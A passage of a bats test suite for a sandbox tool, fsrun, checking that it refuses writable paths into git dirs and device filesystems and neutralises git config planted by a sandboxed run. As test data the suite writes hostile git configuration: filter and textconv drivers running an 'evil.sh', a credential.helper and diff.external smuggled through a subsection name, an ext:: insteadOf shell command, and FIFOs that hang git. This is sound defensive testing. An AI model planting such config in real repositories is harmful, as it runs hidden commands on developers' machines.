# Refused now, like the state root; the worktree itself (a main checkout's `.git` inside it keeps
# its protections) is accepted and what its run writes to `.git` is left out.
route_common_dir_entries() {
  local entry
  make_repo "$1"
  for entry in "$REPO/.git" "$REPO/.git/refs" "$REPO/.git/info" "$REPO/.git/worktrees/other"; do
    refused_entry "$entry" "$WT" "the git dir of the worktree's repository"
  done
  [ "$(hgit -C "$REPO" rev-parse main)" = "$MAIN0" ]
  [ -z "$(ls -A "$DIR/state" 2>/dev/null)" ]
  # a main checkout without linked worktrees, named as the worktree and as the entry
  hgit init -q -b main "$DIR/solo"
  hgit -C "$DIR/solo" -c user.name=a -c user.email=a@x commit -q --allow-empty -m first
  jq -n --arg w "$DIR/solo" '{writablePaths: [$w]}' >"$DIR/policy.json"
  as_owner "$FSRUN" --root "$DIR/state" sandbox --policy "$DIR/policy.json" --worktree "$DIR/solo" \
    -- sh -c 'echo x >.git/info/PLANT && echo y >f'
  [ ! -e "$DIR/solo/.git/info/PLANT" ]
  [ "$(cat "$DIR/solo/f")" = y ]
}

@test "sandbox-git: writablePaths that are or lie in the repository's git dir are refused (root)" {
  route_common_dir_entries root
}

@test "sandbox-git: writablePaths that are or lie in the repository's git dir are refused (ordinary user)" {
  route_common_dir_entries user
}

# route_separate_git_dir OWNER (review27 E3): the main checkout of a repository made with
# --separate-git-dir (its `.git` a file; the git dir not named `.git`) and a linked worktree whose
# `gitdir` file is relative (git 2.48's worktree.useRelativePaths) were not known as checkouts: an
# entry reaching them was accepted and the run rewrote a script there, `tamper: []`. Refused now.
route_separate_git_dir() {
  local main=$DIR/proj gd=$DIR/gd/proj.git wt=$DIR/wts/task1 other=$DIR/wts/task2
  make_owner "$1"
  as_owner mkdir -p "$DIR/gd" "$DIR/wts" "$DIR/cache"
  hgit init -q -b main --separate-git-dir="$gd" "$main"
  hgit -C "$main" -c user.name=a -c user.email=a@x commit -q --allow-empty -m first
  hgit -C "$main" worktree add -q -b task1 "$wt"
  hgit -C "$main" worktree add -q -b task2 "$other"
  refused_entry "$main" "$wt" "holds a checkout of the worktree's repository"
  refused_entry "$DIR/gd" "$wt" "the git dir of the worktree's repository"
  # task2's back-pointer as git 2.48 writes it with worktree.useRelativePaths
  as_owner sh -c 'echo ../../../../wts/task2/.git >"$1/worktrees/task2/gitdir"' sh "$gd"
  refused_entry "$other" "$wt" "another checkout of the worktree's repository"
  [ -z "$(ls -A "$DIR/state" 2>/dev/null)" ]
  jq -n --arg w "$DIR/cache" '{writablePaths: [$w]}' >"$DIR/policy.json"
  as_owner "$FSRUN" --root "$DIR/state" sandbox --policy "$DIR/policy.json" --worktree "$wt" \
    -- sh -c 'echo x >"$1/f"' sh "$DIR/cache"
  [ "$(cat "$DIR/cache/f")" = x ]
}

@test "sandbox-git: writablePaths reaching a separate git dir's main checkout or a relative worktree are refused (root)" {
  route_separate_git_dir root
}

@test "sandbox-git: writablePaths reaching a separate git dir's main checkout or a relative worktree are refused (ordinary user)" {
  route_separate_git_dir user
}

# route_device_entries OWNER (review27 E9, E10): root's command owns the host's device nodes under
# a writable /dev (`nodev` stops only opening them) and chmodded the host's /dev/null; under a
# writable /sys it owns every attribute (`/sys/power/state` suspends the host). Refused now, for
# root and the ordinary user alike (the terminals' devpts, cgroupfs too); the sandbox has its own
# /dev and a read-only /sys. /dev/shm, a tmpfs of its own, stays a writable entry (for root:
# sandbox-run.bats). The refused command only
# writes a file of the test's (a regression runs it, never a chmod of the host's nodes).
route_device_entries() {
  local entry
  make_repo "$1"
  for entry in /dev/null /dev/pts /sys /sys/power /sys/kernel/mm /sys/fs/cgroup/pids; do
    [ -e "$entry" ] || continue
    refused_entry "$entry" "$WT" "device nodes or kernel interfaces"
  done
  # an ordinary user's /dev holds /dev/shm, where its per-run git dirs may be: refused for that first
  refused_entry /dev "$WT" "$([ "$OWNER" = root ] && echo "kernel interfaces" || echo /dev/shm)"
  [ "$(stat -c %a /dev/null)" = 666 ]
}

@test "sandbox-git: writablePaths that are, hold or lie in the host's /dev, /sys or kernel filesystems are refused (root)" {
  route_device_entries root
}

@test "sandbox-git: writablePaths that are, hold or lie in the host's /dev, /sys or kernel filesystems are refused (ordinary user)" {
  route_device_entries user
}

# route_nested_in_place OWNER [deep|gitfile] (review25 C3, review26 D1): an embedded repository
# committed as a gitlink before the run (`sub`, its own `.git` dir; deep: 7 levels down, past the
# walk's 6; gitfile: `sub/.git` a file naming a git dir elsewhere in the worktree, `.g`); the run
# arms its config in place (a filter in its config, the attribute in its info/attributes, `s`
# backdated so that a status there must hash it), writes inside an existing git dir that move no
# ctime the walk reads. The host's `git add -A` runs `git status` inside a gitlink's checkout,
# which runs that filter whatever -c options it gets (the four nested options of before did not
# stop it). So hostGitArgs cannot disarm, on every run: with them `add -A` runs nothing and fails
# at once; with the documented options of before (safe_git) it runs the planted filter.
route_nested_in_place() {
  local sub=sub gitdir
  make_repo "$1"
  case ${2:-} in
    deep) sub=a/b/c/d/e/f/sub ;;
    gitfile) hgit init -q --separate-git-dir "$WT/.g" "$WT/sub" ;;
  esac
  [ -e "$WT/$sub/.git" ] || hgit init -q "$WT/$sub"
  as_owner sh -c 'echo s >"$1/s"' sh "$WT/$sub"
  hgit -C "$WT/$sub" add s
  hgit -C "$WT/$sub" -c user.email=s@example.invalid -c user.name=s commit -qm s
  hgit -C "$WT" add "$sub" 2>/dev/null
  hgit -C "$WT" commit -qm sub
  gitdir=$(hgit -C "$WT/$sub" rev-parse --absolute-git-dir)
  sbx -- "printf '[filter \"x\"]\n\tclean = $DIR/evil.sh; cat\n' >>$gitdir/config &&
          echo 's filter=x' >$gitdir/info/attributes && touch -d 2001-01-01 $sub/s"
  mapfile -t args < <(host_args)
  [ "${args[0]} ${args[1]}" = "-c core.abbrev=fsrun-cannot-disarm" ]
  [[ " ${args[*]} " == *" diff.ignoreSubmodules=all "* ]]
  ! hgit -C "$WT" "${args[@]}" add -A 2>/dev/null || false
  [ ! -e "$MARKER" ]
  safe_git -C "$WT" add -A
  grep -qx ran "$MARKER"
}

@test "sandbox-git: a run arming an existing nested repository's config in place cannot be disarmed: the host's add -A with hostGitArgs runs nothing (root)" {
  route_nested_in_place root
}

@test "sandbox-git: a run arming an existing nested repository's config in place cannot be disarmed: the host's add -A with hostGitArgs runs nothing (ordinary user)" {
  route_nested_in_place user
}

# route_gitfile_subdir OWNER (review26 D4 b): a run makes `pkg/.git`, a file naming a git dir it
# made elsewhere in the worktree (`.h`, a filter in its config, a backdated tracked file): a host
# git run with `pkg` as its cwd discovers that repository and runs its filter whatever -c options
# it gets. hostGitArgs cannot disarm; a `.git` file naming no git dir changes nothing (the control).
route_gitfile_subdir() {
  make_repo "$1"
  sbx -- "mkdir -p plain && echo gitdir: /nonexistent >plain/.git"
  mapfile -t args < <(host_args)
  [ "${args[0]} ${args[1]}" = "-c core.fsmonitor=false" ]
  sbx -- "git init -q --separate-git-dir .h pkg && cd pkg && echo f >f && git add f &&
          printf '[filter \"x\"]\n\tclean = $DIR/evil.sh; cat\n' >>../.h/config &&
          echo 'f filter=x' >../.h/info/attributes && touch -d 2001-01-01 f"
  mapfile -t args < <(host_args)
  [ "${args[0]} ${args[1]}" = "-c core.abbrev=fsrun-cannot-disarm" ]
  ! hgit -C "$WT/pkg" "${args[@]}" status --porcelain 2>/dev/null || false
  [ ! -e "$MARKER" ]
  safe_git -C "$WT/pkg" status --porcelain
  grep -qx ran "$MARKER"
}

@test "sandbox-git: a nested .git file a run made naming a git dir it made in the worktree cannot be disarmed (root)" {
  route_gitfile_subdir root
}

@test "sandbox-git: a nested .git file a run made naming a git dir it made in the worktree cannot be disarmed (ordinary user)" {
  route_gitfile_subdir user
}

# host_sequence WORKTREE ARGS...: the Fusion adapter's git on the host after a run
# (contrib/fusion/README.md: status, add -A, commit) in WORKTREE, each under ARGS (hostGitArgs) and
# the documented options; a command that fails (the cannot-disarm option) fails for the adapter too
host_sequence() {
  local wt=$1
  shift
  safe_git -C "$wt" "$@" status --porcelain --ignore-submodules=all >/dev/null 2>&1 || true
  safe_git -C "$wt" "$@" add -A >/dev/null 2>&1 || true
  safe_git -C "$wt" "$@" commit -qm host >/dev/null 2>&1 || true
}

# assert_add_cannot_be_disarmed [WORKTREE]: the last run's hostGitArgs cannot disarm (the failing
# option first, the four nested options kept); the host's sequence under them in WORKTREE (the
# task's) runs nothing the run planted; the documented options alone let `add -A` run it (the
# control: the attack is live)
assert_add_cannot_be_disarmed() {
  local args wt=${1:-$WT}
  mapfile -t args < <(host_args)
  [ "${args[0]} ${args[1]}" = "-c core.abbrev=fsrun-cannot-disarm" ]
  [[ " ${args[*]} " == *" diff.ignoreSubmodules=all "* ]]
  host_sequence "$wt" "${args[@]}"
  [ ! -e "$MARKER" ]
  safe_git -C "$wt" add -A 2>/dev/null || true
  grep -qx ran "$MARKER"
}

# route_gitfile_common OWNER common|worktree|checkout (review27 E1): the repository's own filter
# runs a worktree script by a relative word (`sh tools/clean.sh`, watched at the top). A run makes
# `sub/` with a `.git` file naming the common dir itself (worktree: the other task's admin dir in
# it, which names another `.git` back), a `sub/tools/clean.sh` of its own, `*.txt filter=x` and a
# backdated `sub/a.txt`, and commits `sub` as a gitlink at that git dir's HEAD. The host's `add -A`
# runs `git status` in `sub/`, which takes the repository's config there and runs
# `sub/tools/clean.sh`, which nothing watches. git never writes such a `.git`: a repository of its
# own, cannot disarm. checkout: a run over the main checkout, which holds the tasks' worktrees (a
# layout fsrun accepts: their files are the run's to write), plants the other task's
# `tools/clean.sh` and makes `.worktrees/other`, git's own linked worktree, a gitlink: the host's
# `add -A` in the main checkout enters it the same way.
route_gitfile_setup() {
  make_repo "$1"
  as_owner sh -c 'cd "$1" && mkdir tools && echo cat >tools/clean.sh &&
    echo "*.txt filter=x" >.gitattributes && echo one >a.txt && echo .worktrees/ >.gitignore' sh "$REPO"
  hgit -C "$REPO" config filter.x.clean 'sh tools/clean.sh'
  hgit -C "$REPO" add tools .gitattributes a.txt .gitignore
  hgit -C "$REPO" commit -qm filter
  hgit -C "$WT" reset -q --hard main
  hgit -C "$OTHER" reset -q --hard main
}

route_gitfile_common() {
  local target='$c'
  [ "$2" = common ] || target='$c/worktrees/other'
  route_gitfile_setup "$1"
  sbx -- "c=\$(cd \"\$(git rev-parse --git-common-dir)\" && pwd) && mkdir -p sub/tools &&
          printf 'echo ran >>$MARKER; cat\n' >sub/tools/clean.sh && echo \"gitdir: $target\" >sub/.git &&
          echo one >sub/a.txt && touch -d 2001-01-01 sub/a.txt && echo '*.txt filter=x' >sub/.gitattributes &&
          git update-index --add --cacheinfo 160000,\$(git rev-parse main),sub && git commit -qm sub"
  assert_add_cannot_be_disarmed
}

route_gitfile_checkout() {
  route_gitfile_setup "$1"
  sbx "$REPO" -- 'echo two >unrelated'
  host_args >/dev/null
  [ -z "$(host_args)" ]
  sbx "$REPO" -- "printf 'echo ran >>$MARKER; cat\n' >.worktrees/other/tools/clean.sh &&
          touch -d 2001-01-01 .worktrees/other/a.txt &&
          git update-index --add --cacheinfo 160000,\$(git rev-parse other),.worktrees/other &&
          git commit -qm other"
  assert_add_cannot_be_disarmed "$REPO"
}

@test "sandbox-git: a nested .git file naming the common dir itself cannot be disarmed: the host's add -A runs nothing of the run's (root)" {
  route_gitfile_common root common
}

@test "sandbox-git: a nested .git file naming the common dir itself cannot be disarmed: the host's add -A runs nothing of the run's (ordinary user)" {
  route_gitfile_common user common
}

@test "sandbox-git: a nested .git file naming another worktree's admin dir cannot be disarmed: the host's add -A runs nothing of the run's (root)" {
  route_gitfile_common root worktree
}

@test "sandbox-git: a nested .git file naming another worktree's admin dir cannot be disarmed: the host's add -A runs nothing of the run's (ordinary user)" {
  route_gitfile_common user worktree
}

# route_gitfile_newline OWNER (review27 E2): a gitlink's `.git` file reads `gitdir: cd<LF>x`. git
# reads the whole file and strips only trailing line breaks: its git dir is `sub/cd<LF>x`, one the
# run made with a filter in its config; a reader cutting at the first line break took `sub/cd`, a
# link to the common dir (disarmable, `tamper` naming only `sub` and `sub/.git`). A path with a
# line break in it is not read: a repository of its own, cannot disarm.
route_gitfile_newline() {
  make_repo "$1"
  sbx -- "git init -q -b main /tmp/e && cd /tmp/e && echo one >a.txt && git add a.txt &&
          git -c user.name=e -c user.email=e@x commit -qm e && h=\$(git rev-parse HEAD) &&
          printf '[filter \"y\"]\n\tclean = $DIR/evil.sh; cat\n' >>.git/config &&
          echo 'a.txt filter=y' >.git/info/attributes && cd \"\$OLDPWD\" && mkdir sub &&
          cp -a /tmp/e/.git \"sub/cd\$(printf '\\nx')\" && cp /tmp/e/a.txt sub/a.txt &&
          touch -d 2001-01-01 sub/a.txt && ln -s \"\$(cd \"\$(git rev-parse --git-common-dir)\" && pwd)\" sub/cd &&
          printf 'gitdir: cd\\nx\\n' >sub/.git &&
          git update-index --add --cacheinfo 160000,\$h,sub && git commit -qm sub"
  [ "$(od -An -c "$WT/sub/.git" | tr -d ' \n')" = 'gitdir:cd\nx\n' ]
  assert_add_cannot_be_disarmed
}

@test "sandbox-git: a run over the main checkout making the other task's worktree a gitlink cannot be disarmed: the host's add -A runs nothing of the run's (root)" {
  route_gitfile_checkout root
}

@test "sandbox-git: a run over the main checkout making the other task's worktree a gitlink cannot be disarmed: the host's add -A runs nothing of the run's (ordinary user)" {
  route_gitfile_checkout user
}

@test "sandbox-git: a nested .git file with a line break inside its path cannot be disarmed: the host's add -A runs nothing of the run's (root)" {
  route_gitfile_newline root
}

@test "sandbox-git: a nested .git file with a line break inside its path cannot be disarmed: the host's add -A runs nothing of the run's (ordinary user)" {
  route_gitfile_newline user
}

# route_absorbed_submodule OWNER (review27 E1): a submodule made with `git submodule add` (its git
# dir in the repository's, read-only to a run) stays disarmable: a run leaving it alone gets no
# hostGitArgs. Once its own config names a driver by a relative word (`sh tools/y.sh`, which git
# runs from the submodule's checkout, where fsrun watches nothing), no run is disarmable: one
# rewriting `lib/tools/y.sh` and backdating `lib/l` has the host's `add -A` run it.
route_absorbed_submodule() {
  make_repo "$1"
  hgit init -q -b main "$DIR/lib"
  as_owner sh -c 'cd "$1" && mkdir tools && echo cat >tools/y.sh && echo "l filter=y" >.gitattributes &&
    echo l >l' sh "$DIR/lib"
  hgit -C "$DIR/lib" add -A
  hgit -C "$DIR/lib" -c user.name=l -c user.email=l@x commit -qm lib
  hgit -C "$WT" -c protocol.file.allow=always submodule add -q "$DIR/lib" lib
  hgit -C "$WT" commit -qm lib
  [ -f "$WT/lib/.git" ]
  sbx -- 'echo two >unrelated'
  host_args >/dev/null
  [ -z "$(host_args)" ]
  hgit -C "$WT/lib" config filter.y.clean 'sh tools/y.sh'
  sbx -- "echo 'echo ran >>$MARKER; cat' >lib/tools/y.sh && touch -d 2001-01-01 lib/l"
  assert_add_cannot_be_disarmed
}

@test "sandbox-git: an absorbed submodule stays disarmable until its own config names a driver's file, which its checkout holds (root)" {
  route_absorbed_submodule root
}

@test "sandbox-git: an absorbed submodule stays disarmable until its own config names a driver's file, which its checkout holds (ordinary user)" {
  route_absorbed_submodule user
}

@test "sandbox-git: a run arming the config of an existing nested repository 7 levels down cannot be disarmed (root)" {
  route_nested_in_place root deep
}

@test "sandbox-git: a run arming the config of an existing nested repository 7 levels down cannot be disarmed (ordinary user)" {
  route_nested_in_place user deep
}

@test "sandbox-git: a run arming the config of a gitlink's git dir that its .git file names in the worktree cannot be disarmed (root)" {
  route_nested_in_place root gitfile
}

@test "sandbox-git: a run arming the config of a gitlink's git dir that its .git file names in the worktree cannot be disarmed (ordinary user)" {
  route_nested_in_place user gitfile
}

# route_expansion OWNER (review25 C9): a driver that names its worktree script through an expansion
# (`sh "$(git rev-parse --show-toplevel)/tools/clean.sh"`) runs what fsrun cannot name, so no digest
# says it is unchanged: a run that changes nothing still names the filter (a standing entry) and
# hostGitArgs disarm it; a run rewriting the script is named the same, and the host's `add -A` with
# hostGitArgs runs nothing of it, a plain one does (filter_x_named_and_disarmed).
route_expansion() {
  local cmd='sh "$(git rev-parse --show-toplevel)/tools/clean.sh"'
  make_repo "$1"
  hgit -C "$REPO" config filter.x.clean "$cmd"
  as_owner sh -c 'cd "$1" && mkdir tools && printf "cat\n" >tools/clean.sh &&
    echo "*.txt filter=x" >.gitattributes && echo one >a.txt' sh "$WT"
  sbx -- 'echo two >unrelated'
  [ "$(config_tamper)" = "$(jq -cn --arg e "config:filter.x.clean=$cmd" '[$e]')" ]
  host_args >/dev/null
  mapfile -t args < <(host_args)
  [[ " ${args[*]} " == *" filter.x.clean= "* ]]
  sbx -- "printf 'echo ran >>$MARKER; cat\n' >tools/clean.sh && touch -d 2001-01-01 a.txt"
  filter_x_named_and_disarmed "config:filter.x.clean=$cmd"
}

@test "sandbox-git: a driver naming its script through \$(...) is named on every run and disarmed (root)" {
  route_expansion root
}

@test "sandbox-git: a driver naming its script through \$(...) is named on every run and disarmed (ordinary user)" {
  route_expansion user
}

# include_rewritten OWNER SCRIPT: the repository includes ../.gitconfig, which a run of SCRIPT at
# its top rewrites: tamper names the include alone; hostGitArgs into the caller's `args`
include_rewritten() {
  make_repo "$1"
  hgit -C "$REPO" config include.path ../.gitconfig
  sbx "$REPO" -- "$2"
  [ "$(config_tamper)" = '["config:include.path=../.gitconfig"]' ]
  host_args >/dev/null
  mapfile -t args < <(host_args)
}

# include_cannot_disarm OWNER SCRIPT: include_rewritten, and the list starts with the cannot-disarm
# option
include_cannot_disarm() {
  include_rewritten "$@"
  [ "${args[0]}|${args[1]}" = "-c|core.abbrev=fsrun-cannot-disarm" ]
}

# route_disarm_equals OWNER (review21 P1): an included config the run writes with a subsection that
# holds `=` (`[diff "external=touch X;"] textconv`): git cuts a -c option at its first `=`, so no
# option may name that key (it would set diff.external, or credential.helper, to the run's
# command). hostGitArgs says it cannot disarm (its first option makes every git command fail), and
# the host's `git "${hostGitArgs[@]}" diff` and `credential approve` run nothing.
route_disarm_equals() {
  local args option
  include_cannot_disarm "$1" "printf '[diff \"external=touch $MARKER;\"]\\n\\ttextconv = x\\n[credential \"helper=!touch $DIR/cred #\"]\\n\\thelper = y\\n[submodule \"s\"]\\n\\tupdate = !touch $DIR/sub\\n' >.gitconfig && echo two >>README"
  for option in "${args[@]}"; do
    [ "$option" = -c ] || [[ "${option%%=*}" =~ ^[a-zA-Z.]+$ ]]
    [[ "$option" != *touch* ]]
  done
  [[ " ${args[*]} " = *" submodule.s.update=checkout "* ]]
  grep -qF 'hostGitArgs: ["-c","core.abbrev=fsrun-cannot-disarm"' "$DIR/stderr"
  status=0
  hgit -C "$REPO" "${args[@]}" diff >"$DIR/diff" 2>&1 || status=$?
  [ "$status" = 128 ]
  grep -qF "'fsrun-cannot-disarm' for 'core.abbrev'" "$DIR/diff"
  printf 'protocol=https\nhost=x.invalid\nusername=a\npassword=b\n\n' |
    hgit -C "$REPO" "${args[@]}" credential approve 2>/dev/null || true
  [ ! -e "$MARKER" ] && [ ! -e "$DIR/cred" ] && [ ! -e "$DIR/sub" ]
}

@test "sandbox-git: a config key whose subsection holds = is no -c option: hostGitArgs cannot disarm, and say so (root)" {
  route_disarm_equals root
}

@test "sandbox-git: a config key whose subsection holds = is no -c option: hostGitArgs cannot disarm, and say so (ordinary user)" {
  route_disarm_equals user
}

# git_dies ARGS...: the host's git in the repository with ARGS exits 128 at the cannot-disarm
# option, before it runs anything
git_dies() {
  status=0
  hgit -C "$REPO" "$@" >"$DIR/out" 2>&1 || status=$?
  [ "$status" = 128 ]
  grep -qF "'fsrun-cannot-disarm' for 'core.abbrev'" "$DIR/out"
}

# route_disarm_other_keys OWNER (review22 F1): the run's included .gitconfig sets keys through which
# git runs a program but that no driver's row names: trailer.<t>.command (`commit --trailer`), and
# protocol.ext.allow with url.<ext::cmd>.insteadOf (`fetch`, `push` of a github.com remote). Any key
# there off the inert list makes the list cannot-disarm; with it the host's commit --trailer, fetch
# and push exit 128 and make no witness; without it each makes its witness (the control).
route_disarm_other_keys() {
  local args trailer='Co-authored-by: f <f@x.invalid>'
  include_cannot_disarm "$1" "printf '[trailer \"ev\"]\\n\\tcommand = \"touch $DIR/pwn-trailer\"\\n[protocol \"ext\"]\\n\\tallow = always\\n[url \"ext::sh -c touch%% $DIR/pwn-ext;%% :\"]\\n\\tinsteadOf = https://github.com/\\n[user]\\n\\tname = an inert key\\n' >.gitconfig && echo two >>README"
  grep -qF 'hostGitArgs: ["-c","core.abbrev=fsrun-cannot-disarm"' "$DIR/stderr"
  hgit -C "$REPO" remote add origin https://github.com/example/x.git
  git_dies "${args[@]}" -c core.hooksPath=/dev/null commit -qam x --trailer "$trailer"
  git_dies "${args[@]}" fetch origin
  git_dies "${args[@]}" push origin main
  [ ! -e "$DIR/pwn-trailer" ] && [ ! -e "$DIR/pwn-ext" ]
  hgit -C "$REPO" -c core.hooksPath=/dev/null commit -qam x --trailer "$trailer" || true
  [ -e "$DIR/pwn-trailer" ]
  hgit -C "$REPO" fetch origin >/dev/null 2>&1 || true
  [ -e "$DIR/pwn-ext" ]
  rm "$DIR/pwn-ext"
  hgit -C "$REPO" push origin main >/dev/null 2>&1 || true
  [ -e "$DIR/pwn-ext" ]
}

@test "sandbox-git: an included config setting trailer.<t>.command or an ext:: insteadOf cannot be disarmed; the host's commit --trailer, fetch, push run nothing (root)" {
  route_disarm_other_keys root
}

@test "sandbox-git: an included config setting trailer.<t>.command or an ext:: insteadOf cannot be disarmed; the host's commit --trailer, fetch, push run nothing (ordinary user)" {
  route_disarm_other_keys user
}

# route_disarm_inert OWNER (review22 F1): an included .gitconfig the run rewrites with inert keys
# (user.name, core.autocrlf, color.ui, a driver's xfuncname) and a textconv: a working list, that
# textconv's option alone; with it the host's diff succeeds and runs nothing, a plain one runs it
route_disarm_inert() {
  local args
  include_rewritten "$1" "printf '[user]\\n\\tname = n\\n[core]\\n\\tautocrlf = input\\n[color]\\n\\tui = never\\n[diff \"x\"]\\n\\txfuncname = ^f\\n\\ttextconv = $DIR/evil.sh\\n' >.gitconfig && echo 'README diff=x' >.gitattributes && echo two >>README"
  [ "$(printf '%s|' "${args[@]}")" = "-c|diff.x.textconv=cat|" ]
  # git hands a textconv a temporary file (in TMPDIR: the owner's own here)
  TMPDIR=$DIR/home hgit -C "$REPO" "${args[@]}" diff >"$DIR/diff"
  grep -qxF '+two' "$DIR/diff"
  [ ! -e "$MARKER" ]
  TMPDIR=$DIR/home hgit -C "$REPO" diff >/dev/null 2>&1 || true
  [ -e "$MARKER" ]
}

@test "sandbox-git: an included config with inert keys and a textconv gets that textconv's option alone, under which the host's diff runs nothing (root)" {
  route_disarm_inert root
}

@test "sandbox-git: an included config with inert keys and a textconv gets that textconv's option alone, under which the host's diff runs nothing (ordinary user)" {
  route_disarm_inert user
}

# route_many_sections OWNER (review22 F7): the run's included .gitconfig holds 20,000 filter
# sections (0.5 MB) then a textconv. The list had 160,000 options (half a minute of fsrun after the
# command, a kill then left no tamper line); past what one stderr line holds it is the cannot-disarm
# list alone (no driver's option; 16 options, 17 allowed), said whole after the tamper line, and with
# it the host's diff runs nothing; a plain one runs the textconv
route_many_sections() {
  local args plant
  plant=$(
    cat <<EOF
awk 'BEGIN { for (i = 0; i < 20000; i++) printf "[filter \"f%d\"]\n\tclean = x\n", i
  printf "[diff \"x\"]\n\ttextconv = %s\n", "$DIR/evil.sh" }' >.gitconfig
echo 'README diff=x' >.gitattributes
echo two >>README
EOF
  )
  include_cannot_disarm "$1" "$plant"
  [ "${#args[@]}" -le $((2 * 17)) ]
  [[ " ${args[*]} " != *" filter."* ]] && [[ " ${args[*]} " != *" diff.x.textconv=cat "* ]]
  [ "$(grep -n '; tamper: \[' "$DIR/stderr" | cut -d: -f1)" -lt \
    "$(grep -n '; hostGitArgs: \[' "$DIR/stderr" | cut -d: -f1)" ]
  git_dies "${args[@]}" diff
  [ ! -e "$MARKER" ]
  TMPDIR=$DIR/home hgit -C "$REPO" diff >/dev/null 2>&1 || true
  [ -e "$MARKER" ]
}

@test "sandbox-git: an included config with 20,000 filter sections gets a bounded list that cannot disarm (root)" {
  route_many_sections root
}

@test "sandbox-git: an included config with 20,000 filter sections gets a bounded list that cannot disarm (ordinary user)" {
  route_many_sections user
}

# plant_unread KIND: the script a run of route_unread runs at the repository's top ($1: the script
# the host's git must not run), making the included .gitconfig one fsrun cannot read
# whole: `big`, over 1 MiB with a filter at its end (.gitattributes names it for README, rewritten
# at the same size: git's status runs the clean filter to compare); `many`, 65 includes with
# diff.external in the last (fsrun reads 64 files; nested, git would die at its 11th level and run
# nothing, so one file names them all); `user`, an include of ~fsrun-no-such-user/x
plant_unread() {
  case $1 in
  big) echo '{ head -c 1100000 /dev/zero | tr "\0" "#"; printf "\n[filter \"x\"]\n\tclean = %s\n" "$1"; } >.gitconfig
    echo "README filter=x" >.gitattributes' ;;
  many) echo 'printf "[include]\n" >.gitconfig && i=1 && while [ $i -le 65 ]; do
      printf "\tpath = inc/$i\n" >>.gitconfig; i=$((i + 1)); done
    mkdir inc && i=1 && while [ $i -le 64 ]; do echo "[core]" >inc/$i; i=$((i + 1)); done
    printf "[diff]\n\texternal = %s\n" "$1" >inc/65' ;;
  user) echo 'printf "[include]\n\tpath = ~fsrun-no-such-user/x\n[core]\n\tfsmonitor = %s\n" "$1" >.gitconfig' ;;
  esac
  echo 'echo ONE >README'
}

# route_unread OWNER KIND (gitunread): a run makes the included config one fsrun cannot read whole
# (plant_unread). What it sets is not known, so nothing names its drivers: hostGitArgs starts with
# the cannot-disarm option (the --json result, the audit event, stderr alike), and with it the
# host's `status` and `diff` exit 128 and run nothing the run planted; plain ones run it (big: the
# filter, many: diff.external; git itself refuses the unknown user's include, which a user only
# NSS knows would pass).
route_unread() {
  local args cmd
  include_cannot_disarm "$1" "set -- $DIR/evil.sh; $(plant_unread "$2")"
  for cmd in status diff; do
    status=0
    hgit -C "$REPO" "${args[@]}" "$cmd" >"$DIR/out" 2>&1 || status=$?
    [ "$status" = 128 ]
    # git dies at the unknown user's include before it reads the -c options
    [ "$2" = user ] || grep -qF "'fsrun-cannot-disarm' for 'core.abbrev'" "$DIR/out"
  done
  [ ! -e "$MARKER" ]
  [ "$2" != user ] || return 0
  TMPDIR=$DIR/home hgit -C "$REPO" "$([ "$2" = big ] && echo status || echo diff)" >/dev/null 2>&1 || true
  [ -e "$MARKER" ]
}

@test "sandbox-git: a run making the included config over 1 MiB with a filter inside gets hostGitArgs that cannot disarm (root)" {
  route_unread root big
}

@test "sandbox-git: a run making the included config over 1 MiB with a filter inside gets hostGitArgs that cannot disarm (ordinary user)" {
  route_unread user big
}

@test "sandbox-git: a run making the included config 65 includes with diff.external in the last gets hostGitArgs that cannot disarm (root)" {
  route_unread root many
}

@test "sandbox-git: a run making the included config 65 includes with diff.external in the last gets hostGitArgs that cannot disarm (ordinary user)" {
  route_unread user many
}

@test "sandbox-git: a run making the included config include ~<an unknown user>/ gets hostGitArgs that cannot disarm (root)" {
  route_unread root user
}

@test "sandbox-git: a run making the included config include ~<an unknown user>/ gets hostGitArgs that cannot disarm (ordinary user)" {
  route_unread user user
}

# route_fifo_by_name OWNER (review26 D2): a run making FIFOs of files git opens by name in every
# directory it reads (src/.gitignore, a top-level .gitattributes) gets them named as configs fsrun
# cannot read, on every run while they are there, and hostGitArgs that cannot disarm: with them the
# host's `status` and `add -A` fail at once (128), where a plain one waits in open() for ever (the
# control, ended by `timeout`: it never returns on its own).
route_fifo_by_name() {
  local args want rc=0
  make_repo "$1"
  sbx -- 'mkdir -p src && mkfifo src/.gitignore .gitattributes'
  want=$(jq -cn '["config:unread:.gitattributes (not a regular file: git'"'"'s open of it would wait or fail)",
    "config:unread:src/.gitignore (not a regular file: git'"'"'s open of it would wait or fail)"]')
  [ "$(config_tamper | jq -c sort)" = "$want" ]
  sbx -- 'echo two >unrelated.txt'
  [ "$(config_tamper | jq -c sort)" = "$want" ]
  host_args >/dev/null
  mapfile -t args < <(host_args)
  [ "${args[0]}|${args[1]}" = "-c|core.abbrev=fsrun-cannot-disarm" ]
  for cmd in status "add -A"; do
    rc=0
    # shellcheck disable=SC2086 # cmd is two words on purpose
    as_owner timeout 600 env GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null \
      git -C "$WT" "${args[@]}" $cmd >/dev/null 2>&1 || rc=$?
    [ "$rc" = 128 ]
  done
  rc=0
  as_owner timeout 2 env GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null \
    git -C "$WT" status >/dev/null 2>&1 || rc=$?
  [ "$rc" = 124 ]
}

@test "sandbox-git: a FIFO named .gitignore or .gitattributes is named on every run; hostGitArgs make the host's git fail, not hang (root)" {
  route_fifo_by_name root
}

@test "sandbox-git: a FIFO named .gitignore or .gitattributes is named on every run; hostGitArgs make the host's git fail, not hang (ordinary user)" {
  route_fifo_by_name user
}

# route_fifo_git_dir OWNER (review26 D2, the reviewer's t7): a nested `.git` directory whose
# `HEAD` (or, HEAD valid, `commondir`) is a FIFO: git's discovery of the untracked repository opens
# them and waits for ever. The walk names each (stat, never open) on every run, as the top-level
# FIFOs; hostGitArgs cannot disarm (a repository of its own already says so), so the host's
# `status` and `add -A` with them exit 128; a plain `status` never returns (the control).
route_fifo_git_dir() {
  local args want rc=0
  make_repo "$1"
  sbx -- 'mkdir -p a/.git/objects a/.git/refs b/c/.git/objects b/c/.git/refs && mkfifo a/.git/HEAD &&
    echo "ref: refs/heads/main" >b/c/.git/HEAD && mkfifo b/c/.git/commondir'
  want=$(jq -cn '["config:unread:a/.git/HEAD (not a regular file: git'"'"'s open of it would wait or fail)",
    "config:unread:b/c/.git/commondir (not a regular file: git'"'"'s open of it would wait or fail)"]')
  [ "$(config_tamper | jq -c sort)" = "$want" ]
